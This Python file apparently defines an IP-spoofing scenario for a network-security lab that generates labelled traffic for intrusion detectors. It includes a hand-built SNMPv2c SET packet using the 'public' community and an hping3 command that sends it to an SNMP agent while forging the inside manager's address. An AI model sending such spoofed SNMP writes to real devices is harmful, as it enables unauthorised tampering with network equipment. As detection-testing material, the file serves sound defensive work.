"""SNMP questions in the name of the station that may ask, from outside."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

# SNMPv2c SET of sysContact.0 with the community `public` (RFC 3416, section 4.2.5), by hand in BER.
QUESTION = (
    bytes.fromhex("302f020101")
    + b"\x04\x06public"
    + bytes.fromhex("a32202041a2b3c4d020100020100301430120608 2b06010201010400 04066f776e656421")
)


def run(net: Range) -> None:
    attacker, manager, agent = net.outside("attacker"), net.inside("pc2"), net.inside("snmp")
    servers.agent(agent)
    net.everyday()
    net.loop(manager, f"snmpget -v2c -c public -t 1 -r 0 {agent.ip} 1.3.6.1.2.1.1.3.0", 1.2)
    net.quiet(6)
    payload = attacker.folder / "set"
    payload.write_bytes(QUESTION)
    with net.attack(
        "ip-spoofing",
        by=attacker,
        victims=[agent],
        attacker_known=False,
        others={"claimed": [manager]},
        frames=f"udp and src host {manager.ip} and dst port 161",
        responses=f"udp and src host {agent.ip} and src port 161",
    ):
        words = f"hping3 -q -2 -a {manager.ip} -s 40161 -k -p 161 -d {len(QUESTION)} -E {payload}"
        net.tool(attacker, *words.split(), *f"-i 1 -c 9 {agent.ip}".split())
    net.quiet(3)


SCENARIO = Scenario(
    name="ip-spoofing-held-manager",
    about="From outside come nine SNMP orders in the name of the inside station that manages the agent.",
    detectors=("ip-spoofing",),
    tools={"hping3": "hping3", "snmpget": "snmp", "snmpd": "snmpd"},
    held_out=False,
    run=run,
)
